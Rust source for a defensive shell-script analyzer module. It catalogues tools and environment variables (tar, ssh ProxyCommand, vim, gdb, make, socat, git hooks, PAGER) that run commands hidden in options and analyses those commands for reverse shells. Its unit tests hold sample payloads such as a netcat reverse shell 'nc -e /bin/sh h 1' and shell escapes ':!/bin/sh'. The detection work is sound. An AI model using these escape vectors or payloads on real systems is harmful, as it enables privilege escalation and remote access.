//! Tools that run a command given in an option or an argument (the GTFOBins
//! catalogue): `tar --checkpoint-action=exec=`, `-I`, `--to-command`,
//! `--rsh-command`; `zip -TT`; git's `-c core.pager=`/`alias.x=!cmd`,
//! `--exec-path` and hooks the script wrote; `vim -c ':!cmd'`; `man -P`;
//! `gdb -ex '!cmd'`; `make --eval '$(shell cmd)'` and recipes of a Makefile
//! the script wrote; `rsync -e`; `ssh -o ProxyCommand=`; `scp -S`; `sqlite3
//! '.shell cmd'`; `run-parts`; `socat exec:`; hooks of certbot, openvpn,
//! restic, split, yt-dlp ...; and environment variables that hold a command
//! (`PAGER`, `LESSOPEN`, `GIT_SSH_COMMAND`, `EDITOR` ...).
//!
//! The command found is analysed as shell code with the Bash analyzer, so a
//! reverse shell hidden behind any of them is denied as the bare one is.
//! Options whose purpose is to run a command (`--checkpoint-action`,
//! `ProxyCommand`, `-TT`, `.shell`) count a value built at run time as
//! dynamic code; options that name a helper program (`-I`, `rsync -e`,
//! `PAGER`) are analysed only when constant, because `rsync -e "ssh -p
//! $port"` is everyday use. This module reports facts; policies decide.

use super::interpreters::strip_prefix_bytes;
use super::{Lang, RunCtx};
use crate::analyze::bash::paths;
use crate::analyze::bash::walk::{Analyzer, R};
use crate::analyze::bash::words::Word;
use crate::analyze::Span;

/// Environment variables whose value a program runs as a command.
const COMMAND_VARS: &[&str] = &[
    "PAGER",
    "MANPAGER",
    "GIT_PAGER",
    "SYSTEMD_PAGER",
    "CRASHPAGER",
    "LESSOPEN",
    "LESSCLOSE",
    "EDITOR",
    "VISUAL",
    "GIT_EDITOR",
    "SYSTEMD_EDITOR",
    "SUDO_EDITOR",
    "GIT_SSH_COMMAND",
    "GIT_SSH",
    "GIT_EXTERNAL_DIFF",
    "GIT_ASKPASS",
    "SSH_ASKPASS",
    "RSYNC_RSH",
    "BORG_RSH",
    "RESTIC_PASSWORD_COMMAND",
    "BROWSER",
    "PERL5DB",
];

/// Whether a value is a plain program name or path (`less`, `/usr/bin/vim`):
/// nothing to analyse beyond what its name says.
fn plain_program(v: &str) -> bool {
    !v.is_empty()
        && v.chars()
            .all(|c| c.is_ascii_alphanumeric() || "/._-+".contains(c))
}

/// Values of an option in its spellings: `-o V`, `-oV` (short), `--opt=V`,
/// `--opt V`, `-opt=V` (latexmk).
fn opt_values(args: &[Word], spellings: &[&str]) -> Vec<Word> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let t = args[i].known_text();
        if t == "--" {
            break;
        }
        for s in spellings {
            if t == *s {
                if let Some(v) = args.get(i + 1) {
                    out.push(v.clone());
                }
            } else if t.starts_with(&format!("{s}=")) {
                out.push(strip_prefix_bytes(&args[i], s.len() + 1));
            } else if !s.starts_with("--") && s.len() == 2 && t.starts_with(s) && t.len() > 2 {
                out.push(strip_prefix_bytes(&args[i], s.len()));
            }
        }
        i += 1;
    }
    out
}

/// Per tool: options whose value is a shell command run by the tool.
fn option_commands(name: &str) -> &'static [&'static str] {
    match name {
        "tar" | "gtar" => &["--to-command", "--info-script", "--new-volume-script", "-F"],
        "zip" => &["-TT", "--unzip-command"],
        "man" => &["-P", "--pager", "-H", "--html"],
        "split" => &["--filter"],
        "openvpn" => &[
            "--up",
            "--down",
            "--route-up",
            "--ipchange",
            "--tls-verify",
            "--client-connect",
            "--learn-address",
            "--auth-user-pass-verify",
        ],
        "certbot" => &[
            "--pre-hook",
            "--post-hook",
            "--deploy-hook",
            "--manual-auth-hook",
            "--manual-cleanup-hook",
        ],
        "restic" => &["--password-command"],
        "borg" => &["--rsh"],
        "yt-dlp" | "youtube-dl" => &["--exec", "--exec-before-download"],
        "plymouth" => &["--command"],
        "tmux" | "tmate" | "genie" | "bpftrace" => &["-c"],
        "dhclient" => &["-sf"],
        "scrot" => &["-e", "--exec"],
        "pip" | "pip3" => &["--editor"],
        "logrotate" => &["-m", "--mail"],
        "dnsmasq" => &["--conf-script"],
        "enscript" => &["-I", "--filter"],
        "rpm" => &["--pipe"],
        "zic" => &["-y"],
        "agetty" => &["-l"],
        "ksu" => &["-e"],
        "latexmk" => &["-pdflatex", "-latex", "-lualatex", "-xelatex"],
        "check_ssl_cert" => &["--grep-bin"],
        "gem" => &["-e", "--editor"],
        "cdist" => &["-s", "--shell"],
        "tcpdump" => &["-z"],
        _ => &[],
    }
}

/// Per tool: options naming a helper program, analysed only when constant.
fn option_programs(name: &str) -> &'static [&'static str] {
    match name {
        "tar" | "gtar" => &["-I", "--use-compress-program", "--rsh-command"],
        "cpio" => &["--rsh-command"],
        "rsync" => &["-e", "--rsh"],
        "scp" | "sftp" => &["-S"],
        _ => &[],
    }
}

/// The shell commands of `$(shell ...)` in make text.
fn make_shell_calls(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for open in ["$(shell ", "${shell "] {
        let close = if open.starts_with("$(") { ')' } else { '}' };
        let mut rest = text;
        while let Some(i) = rest.find(open) {
            rest = &rest[i + open.len()..];
            let mut depth = 0usize;
            let mut end = rest.len();
            for (k, c) in rest.char_indices() {
                if c == '(' || c == '{' {
                    depth += 1;
                } else if c == close || (c == ')' || c == '}') {
                    if depth == 0 {
                        end = k;
                        break;
                    }
                    depth -= 1;
                }
            }
            out.push(rest[..end].to_string());
            if out.len() > 16 {
                return out;
            }
        }
    }
    out
}

/// What a vim/ex command line runs: `!cmd`, `:terminal cmd`, `:shell`
/// (with `set shell=`), `:call system("...")`, `:py3 ...` and friends.
fn vim_actions(cmdline: &str, shell: &mut String, out: &mut Vec<(Lang, String)>) {
    let mut rest = cmdline;
    for _ in 0..16 {
        let c = rest.trim_start().trim_start_matches(':').trim_start();
        // A range before `!` filters lines through a command (`%!sh`).
        let c = c.trim_start_matches(|ch: char| {
            ch.is_ascii_digit() || matches!(ch, '%' | '.' | '$' | ',' | '\'')
        });
        if c.is_empty() {
            return;
        }
        let word: String = c
            .chars()
            .take_while(|ch| ch.is_ascii_alphanumeric())
            .collect();
        let arg = c[word.len()..].trim_start();
        if let Some(cmd) = c.strip_prefix('!') {
            out.push((Lang::Bash, cmd.to_string()));
            return;
        }
        if matches!(word.as_str(), "r" | "read" | "w" | "write") && arg.starts_with('!') {
            out.push((Lang::Bash, arg[1..].to_string()));
            return;
        }
        if "terminal".starts_with(&word) && word.len() >= 3 {
            let (cmd, _) = arg.split_once('|').unwrap_or((arg, ""));
            let cmd = cmd.trim_start_matches("++curwin").trim();
            out.push((
                Lang::Bash,
                if cmd.is_empty() {
                    shell.clone()
                } else {
                    cmd.to_string()
                },
            ));
            return;
        }
        if matches!(
            word.as_str(),
            "py" | "python" | "py3" | "python3" | "pyx" | "pythonx"
        ) {
            out.push((Lang::Python, arg.to_string()));
            return;
        }
        let (this, next) = match arg.find('|') {
            Some(k) => (&arg[..k], Some(&arg[k + 1..])),
            None => (arg, None),
        };
        if word == "set" || word == "se" {
            if let Some(v) = this.trim().strip_prefix("shell=") {
                *shell = v.replace("\\ ", " ").trim().to_string();
            }
        } else if matches!(word.as_str(), "sh" | "shell") {
            out.push((Lang::Bash, shell.clone()));
        } else if matches!(word.as_str(), "call" | "echo" | "exe" | "execute" | "let") {
            for (k, _) in this
                .match_indices("system(")
                .chain(this.match_indices("systemlist("))
            {
                let after = &this[k..];
                let after = &after[after.find('(').map_or(0, |p| p + 1)..];
                let q = after.chars().next().unwrap_or(' ');
                if q == '"' || q == '\'' {
                    if let Some(end) = after[1..].find(q) {
                        out.push((Lang::Bash, after[1..1 + end].to_string()));
                    }
                }
            }
        }
        match next {
            Some(n) => rest = n,
            None => return,
        }
    }
}

/// What a gdb command runs: `!cmd`, `shell cmd`, `pipe ... | cmd`, `python ...`.
fn gdb_action(cmd: &str) -> Option<(Lang, String)> {
    let c = cmd.trim();
    if let Some(r) = c.strip_prefix('!') {
        return Some((Lang::Bash, r.to_string()));
    }
    let (word, arg) = c.split_once(char::is_whitespace).unwrap_or((c, ""));
    match word {
        "shell" => Some((Lang::Bash, arg.to_string())),
        "python" | "py" | "python-interactive" | "pi" => Some((Lang::Python, arg.to_string())),
        "pipe" | "|" => arg
            .split_once('|')
            .map(|(_, sh)| (Lang::Bash, sh.to_string())),
        _ => None,
    }
}

/// The command of a socat address `exec:CMD,opts` / `system:CMD,opts`.
fn socat_command(addr: &str) -> Option<String> {
    let lower = addr.to_ascii_lowercase();
    for p in ["exec:", "system:"] {
        if let Some(i) = lower.find(p) {
            if i == 0 || lower[..i].ends_with(',') || lower[..i].ends_with('!') {
                let rest = &addr[i + p.len()..];
                let cmd = rest.split(',').next().unwrap_or("");
                return Some(cmd.to_string());
            }
        }
    }
    None
}

impl<'s> Analyzer<'s> {
    /// Analyses a command found in an option value. `strict`: a value built
    /// at run time is dynamic code; otherwise only a constant is analysed.
    fn option_command(&mut self, via: &str, w: &Word, span: Span, strict: bool) -> R<()> {
        let tainted = w.taint.download || !w.taint.decoders.is_empty();
        if let Some(text) = w.constant() {
            if self.written_program(via, &text, span)? {
                return Ok(());
            }
            if !tainted {
                return self.lexed_payload(Lang::Bash, &text, vec![via.to_string()], span);
            }
        }
        if strict || tainted {
            self.exec_code(Lang::Bash, via, w, span, false)?;
        }
        Ok(())
    }

    fn text_command(&mut self, lang: Lang, via: &str, text: &str, span: Span) -> R<()> {
        if lang == Lang::Bash && self.written_program(via, text, span)? {
            return Ok(());
        }
        self.lexed_payload(lang, text, vec![via.to_string()], span)
    }

    /// A command whose program is a file the script wrote (`sshfs -o
    /// ssh_command=/tmp/tf` after writing /tmp/tf): the file's content is
    /// what runs, and the nested analysis of the command text alone would
    /// not know the file.
    fn written_program(&mut self, via: &str, text: &str, span: Span) -> R<bool> {
        let first = text.split_whitespace().next().unwrap_or("");
        if !first.contains('/') {
            return Ok(false);
        }
        let p = paths::normalise(first);
        match self.files.get(&p).cloned() {
            Some(info) => {
                self.run_file(&info, &format!("{via} {p}"), Lang::Bash, span)?;
                Ok(true)
            }
            None => Ok(false),
        }
    }

    /// A variable assignment whose value a program will run as a command
    /// (`PAGER='sh -c ...' git -p help`, `export LESSOPEN='|cmd %s'`).
    pub fn command_var(&mut self, name: &str, value: Option<&str>, span: Span) -> R<()> {
        if !COMMAND_VARS.contains(&name) {
            return Ok(());
        }
        let Some(v) = value else { return Ok(()) };
        let v = v.trim().trim_start_matches('|').trim_start_matches('|');
        if plain_program(v) && !matches!(paths::basename(v), "sh" | "bash" | "dash" | "zsh") {
            return Ok(());
        }
        let lang = if name == "PERL5DB" {
            Lang::Other(super::embedded::Interp::Perl)
        } else {
            Lang::Bash
        };
        self.text_command(lang, &format!("${name}"), v, span)
    }

    /// Commands hidden in options and arguments of the tool `name`.
    pub(super) fn indirect(&mut self, name: &str, args: &[Word], rc: &RunCtx) -> R<()> {
        let span = rc.span;
        for w in opt_values(args, option_commands(name)) {
            self.option_command(&format!("{name} option"), &w, span, true)?;
        }
        for w in opt_values(args, option_programs(name)) {
            self.option_command(&format!("{name} option"), &w, span, false)?;
        }
        let texts: Vec<String> = args.iter().map(Word::known_text).collect();
        match name {
            "tar" | "gtar" => {
                for w in opt_values(args, &["--checkpoint-action"]) {
                    if w.known_text().starts_with("exec=") {
                        let cmd = strip_prefix_bytes(&w, 5);
                        self.option_command("tar --checkpoint-action", &cmd, span, true)?;
                    }
                }
            }
            "ssh" | "scp" | "sftp" | "sshfs" | "autossh" | "check_by_ssh" => {
                for w in opt_values(args, &["-o"]) {
                    let t = w.known_text();
                    let key_len = t
                        .find(|c: char| c == '=' || c.is_whitespace())
                        .unwrap_or(t.len());
                    let key = t[..key_len].to_ascii_lowercase();
                    if matches!(
                        key.as_str(),
                        "proxycommand" | "localcommand" | "ssh_command" | "knownhostscommand"
                    ) {
                        let mut skip = key_len;
                        let tail = &t[key_len..];
                        skip += tail.len() - tail.trim_start_matches(['=', ' ', '\t']).len();
                        let cmd = strip_prefix_bytes(&w, skip);
                        self.option_command(&format!("{name} -o {key}"), &cmd, span, true)?;
                    }
                }
            }
            "git" => self.git(args, &texts, span)?,
            "hg" => {
                for w in opt_values(args, &["--config"]) {
                    if let Some(c) = w.constant() {
                        if let Some((k, v)) = c.split_once('=') {
                            if k.starts_with("alias.") && v.starts_with('!') {
                                self.text_command(Lang::Bash, "hg alias", &v[1..], span)?;
                            }
                        }
                    }
                }
            }
            "vi" | "vim" | "nvim" | "ex" | "view" | "vimdiff" | "rvim" | "rview" | "gvim"
            | "vim.basic" | "vim.tiny" | "vim.nox" | "evim" => {
                let mut shell = "/bin/sh".to_string();
                let mut cmds: Vec<String> = Vec::new();
                for w in opt_values(args, &["-c", "--cmd"]) {
                    cmds.push(w.lossy());
                }
                for t in &texts {
                    if let Some(c) = t.strip_prefix('+') {
                        if !c.is_empty() && !c.chars().all(|ch| ch.is_ascii_digit()) {
                            cmds.push(c.to_string());
                        }
                    }
                }
                let mut found = Vec::new();
                for c in &cmds {
                    vim_actions(c, &mut shell, &mut found);
                }
                for (lang, c) in found {
                    self.text_command(lang, &format!("{name} -c"), &c, span)?;
                }
            }
            "gdb" => {
                for w in opt_values(
                    args,
                    &[
                        "-ex",
                        "--ex",
                        "-eval-command",
                        "--eval-command",
                        "-iex",
                        "--init-eval-command",
                    ],
                ) {
                    if let Some((lang, c)) = gdb_action(&w.lossy()) {
                        self.text_command(lang, "gdb -ex", &c, span)?;
                    }
                }
            }
            "make" | "gmake" => {
                let mut texts_to_read: Vec<String> = opt_values(args, &["--eval", "-E"])
                    .iter()
                    .map(Word::lossy)
                    .collect();
                let makefile = opt_values(args, &["-f", "--file", "--makefile"])
                    .first()
                    .map(Word::known_text);
                let candidates: Vec<String> = match makefile {
                    Some(f) => vec![paths::normalise(&f)],
                    None => ["GNUmakefile", "makefile", "Makefile"]
                        .iter()
                        .map(|f| paths::normalise(f))
                        .collect(),
                };
                for c in candidates {
                    if let Some(content) = self.files.get(&c).and_then(|i| i.content.clone()) {
                        // Recipe lines (a tab first) are shell commands.
                        for line in content.lines() {
                            if let Some(r) = line.strip_prefix('\t') {
                                let r = r.trim_start_matches(['@', '-', '+']);
                                self.text_command(Lang::Bash, "make recipe", r, span)?;
                            }
                        }
                        texts_to_read.push(content);
                        break;
                    }
                }
                for t in texts_to_read {
                    for c in make_shell_calls(&t) {
                        self.text_command(Lang::Bash, "make $(shell)", &c, span)?;
                    }
                }
            }
            "sqlite3" | "sqlite" => {
                let mut lines: Vec<String> = opt_values(args, &["-cmd"])
                    .iter()
                    .map(Word::lossy)
                    .collect();
                lines.extend(texts.iter().filter(|t| t.starts_with('.')).cloned());
                if let Some(stdin) = &rc.stdin.text {
                    lines.extend(stdin.lines().map(str::to_string));
                }
                for l in lines {
                    let l = l.trim();
                    let (dot, rest) = l.split_once(char::is_whitespace).unwrap_or((l, ""));
                    let cmd = match dot {
                        ".shell" | ".system" => Some(rest.to_string()),
                        ".once" | ".output" | ".import" => rest
                            .trim_matches(['\'', '"'])
                            .strip_prefix('|')
                            .map(|c| c.split_whitespace().collect::<Vec<_>>().join(" ")),
                        _ => None,
                    };
                    if let Some(c) = cmd {
                        self.text_command(Lang::Bash, "sqlite3 .shell", &c, span)?;
                    }
                }
            }
            "mysql" | "mariadb" => {
                for w in opt_values(args, &["-e", "--execute"]) {
                    let t = w.lossy();
                    let t = t.trim();
                    if let Some(c) = t.strip_prefix("\\!").or_else(|| t.strip_prefix("system ")) {
                        self.text_command(Lang::Bash, "mysql system", c, span)?;
                    }
                }
            }
            "lftp" | "mail" | "mailx" | "dc" => {
                for w in opt_values(args, &["-c", "--exec", "-e"]) {
                    let t = w.lossy();
                    if let Some(c) = t.trim().strip_prefix('!') {
                        self.text_command(Lang::Bash, &format!("{name} !"), c, span)?;
                    }
                }
            }
            "rpm" | "rpmdb" | "rpmquery" | "rpmverify" => {
                for w in opt_values(args, &["--eval", "-E"]) {
                    let t = w.lossy();
                    if let Some(c) = t.strip_prefix("%(").and_then(|c| c.strip_suffix(')')) {
                        self.text_command(Lang::Bash, "rpm --eval %()", c, span)?;
                    }
                }
            }
            "gcc" | "cc" | "g++" | "clang" => {
                for w in opt_values(args, &["-wrapper"]) {
                    let c = w.lossy().replace(',', " ");
                    self.text_command(Lang::Bash, "gcc -wrapper", &c, span)?;
                }
            }
            "fzf" => {
                for w in opt_values(args, &["--bind"]) {
                    let t = w.lossy();
                    for open in ["execute(", "execute-silent(", "become("] {
                        if let Some(i) = t.find(open) {
                            let rest = &t[i + open.len()..];
                            let c = rest.rsplit_once(')').map_or(rest, |x| x.0);
                            self.text_command(Lang::Bash, "fzf execute", c, span)?;
                        }
                    }
                }
            }
            "busctl" => {
                for w in opt_values(args, &["--address"]) {
                    let t = w.lossy();
                    if let Some(spec) = t.strip_prefix("unixexec:") {
                        let mut argv: Vec<Word> = Vec::new();
                        for kv in spec.split(',') {
                            if let Some((k, v)) = kv.split_once('=') {
                                if k == "path" || k.starts_with("argv") && k != "argv0" {
                                    argv.push(Word::lit(v));
                                }
                            }
                        }
                        if !argv.is_empty() {
                            self.run(argv, rc)?;
                        }
                    }
                }
            }
            "tex" | "latex" | "pdflatex" | "pdftex" | "xelatex" | "lualatex" | "etex"
                if texts
                    .iter()
                    .any(|t| t.trim_start_matches('-') == "shell-escape") =>
            {
                for t in &texts {
                    let mut rest = t.as_str();
                    while let Some(i) = rest.find("\\write18{") {
                        rest = &rest[i + 9..];
                        let end = rest.find('}').unwrap_or(rest.len());
                        let c = rest[..end].to_string();
                        self.text_command(Lang::Bash, "\\write18", &c, span)?;
                    }
                }
            }
            // `socket -p CMD` and bundles ending in p (`-svp CMD`).
            "socket" => {
                for (k, t) in texts.iter().enumerate() {
                    if t.starts_with('-') && !t.starts_with("--") && t.ends_with('p') {
                        if let Some(w) = args.get(k + 1) {
                            self.option_command("socket -p", w, span, true)?;
                            // The program's standard streams are the socket.
                            let prog = w.known_text();
                            let first = prog.split_whitespace().next().unwrap_or("");
                            if w.has_unknown()
                                || super::interpreters::interp_lang(paths::basename(first))
                                    .is_some()
                            {
                                self.signal("reverse-shell", span);
                            }
                        }
                    }
                }
            }
            "socat" => {
                for t in &texts {
                    if let Some(c) = socat_command(t) {
                        self.text_command(Lang::Bash, "socat exec:", &c, span)?;
                    }
                }
            }
            "run-parts" => self.run_parts(args, &texts, rc)?,
            "csvtool" if texts.first().is_some_and(|t| t == "call") => {
                if let Some(w) = args.get(1) {
                    self.option_command("csvtool call", w, span, true)?;
                }
            }
            _ => {}
        }
        Ok(())
    }

    /// `git`: commands in `-c` settings, `--exec-path` programs and hooks.
    fn git(&mut self, args: &[Word], texts: &[String], span: Span) -> R<()> {
        for w in opt_values(args, &["-c"]) {
            let Some(c) = w.constant() else { continue };
            let Some((k, v)) = c.split_once('=') else {
                continue;
            };
            let k = k.to_ascii_lowercase();
            let runs = matches!(
                k.as_str(),
                "core.pager"
                    | "core.sshcommand"
                    | "core.editor"
                    | "core.fsmonitor"
                    | "core.askpass"
                    | "sequence.editor"
                    | "diff.external"
                    | "gpg.program"
                    | "credential.helper"
            ) || k.starts_with("pager.")
                || (k.starts_with("alias.") && v.starts_with('!'))
                || (k.starts_with("credential.") && v.starts_with('!'));
            if runs {
                let v = v.trim_start_matches('!');
                if !plain_program(v) || v.ends_with("sh") {
                    self.text_command(Lang::Bash, &format!("git -c {k}"), v, span)?;
                }
            }
        }
        // The subcommand: the first word that is not an option or its value.
        let mut i = 0;
        let mut exec_path: Option<String> = None;
        while i < texts.len() {
            let t = &texts[i];
            if matches!(
                t.as_str(),
                "-c" | "-C" | "--git-dir" | "--work-tree" | "--namespace"
            ) {
                i += 2;
                continue;
            }
            if let Some(p) = t.strip_prefix("--exec-path=") {
                exec_path = Some(p.to_string());
            }
            if t.starts_with('-') {
                i += 1;
                continue;
            }
            break;
        }
        let sub = texts.get(i).cloned().unwrap_or_default();
        if let Some(dir) = exec_path {
            let p = paths::normalise(&format!("{}/git-{sub}", dir.trim_end_matches('/')));
            if let Some(info) = self
                .files
                .get(&p)
                .cloned()
                .or_else(|| self.file_by_basename(&p))
            {
                self.run_file(&info, &format!("git --exec-path {p}"), Lang::Bash, span)?;
            }
        }
        // Hooks the script wrote run when git reaches them.
        if matches!(
            sub.as_str(),
            "commit"
                | "merge"
                | "push"
                | "checkout"
                | "switch"
                | "rebase"
                | "am"
                | "pull"
                | "clone"
                | "fetch"
                | "gc"
                | "apply"
                | "cherry-pick"
                | "revert"
                | "reset"
        ) {
            let hooks: Vec<(String, crate::analyze::bash::walk::FileInfo)> = self
                .files
                .iter()
                .filter(|(k, _)| k.contains("/hooks/") || k.starts_with("hooks/"))
                .map(|(k, v)| (k.clone(), v.clone()))
                .collect();
            for (k, info) in hooks.into_iter().take(16) {
                self.run_file(&info, &format!("git hook {k}"), Lang::Bash, span)?;
            }
        }
        Ok(())
    }

    /// `run-parts DIR` runs every program in DIR; `--regex '^sh$'` picks one.
    fn run_parts(&mut self, args: &[Word], texts: &[String], rc: &RunCtx) -> R<()> {
        let span = rc.span;
        let extra: Vec<Word> = opt_values(args, &["-a", "--arg"]);
        let regex = opt_values(args, &["--regex"]).first().map(Word::known_text);
        let Some(dir) = texts
            .iter()
            .rev()
            .find(|t| !t.starts_with('-') && Some(*t) != regex.as_ref())
            .cloned()
        else {
            return Ok(());
        };
        let dir = paths::normalise(&dir);
        if let Some(re) = regex {
            let lit = re.trim_start_matches('^').trim_end_matches('$');
            if !lit.is_empty()
                && lit
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || "_-.".contains(c))
            {
                let mut argv = vec![Word::lit(format!("{}/{lit}", dir.trim_end_matches('/')))];
                argv.extend(extra.iter().cloned());
                let sub = RunCtx {
                    redirs: Vec::new(),
                    ..rc.clone()
                };
                self.run(argv, &sub)?;
                return Ok(());
            }
        }
        let prefix = format!("{}/", dir.trim_end_matches('/'));
        let found: Vec<(String, crate::analyze::bash::walk::FileInfo)> = self
            .files
            .iter()
            .filter(|(k, _)| k.starts_with(&prefix))
            .map(|(k, v)| (k.clone(), v.clone()))
            .collect();
        for (k, info) in found.into_iter().take(16) {
            self.run_file(&info, &format!("run-parts {k}"), Lang::Bash, span)?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn vim_command_lines() {
        let mut sh = "/bin/sh".to_string();
        let mut out = Vec::new();
        vim_actions(":!/bin/sh", &mut sh, &mut out);
        vim_actions(":set shell=/bin/sh\\ -p | shell", &mut sh, &mut out);
        vim_actions(":terminal nc -e /bin/sh h 1", &mut sh, &mut out);
        vim_actions(":py3 import os; os.system('id')", &mut sh, &mut out);
        vim_actions(":call system('id')", &mut sh, &mut out);
        vim_actions(":wq", &mut sh, &mut out);
        let got: Vec<&str> = out.iter().map(|(_, c)| c.as_str()).collect();
        assert_eq!(
            got,
            [
                "/bin/sh",
                "/bin/sh -p",
                "nc -e /bin/sh h 1",
                "import os; os.system('id')",
                "id"
            ]
        );
        assert_eq!(out[3].0, Lang::Python);
    }

    #[test]
    fn make_and_socat_and_gdb() {
        assert_eq!(make_shell_calls("$(shell /bin/sh 1>&0)"), ["/bin/sh 1>&0"]);
        assert_eq!(
            make_shell_calls("x := $(shell echo $(HOME))"),
            ["echo $(HOME)"]
        );
        assert_eq!(
            socat_command("exec:bash -li,pty,stderr").as_deref(),
            Some("bash -li")
        );
        assert_eq!(socat_command("tcp:10.0.0.1:1"), None);
        assert_eq!(
            gdb_action("!/bin/sh").map(|x| x.1).as_deref(),
            Some("/bin/sh")
        );
        assert_eq!(gdb_action("shell id").map(|x| x.1).as_deref(), Some("id"));
        assert_eq!(gdb_action("break main"), None);
    }
}
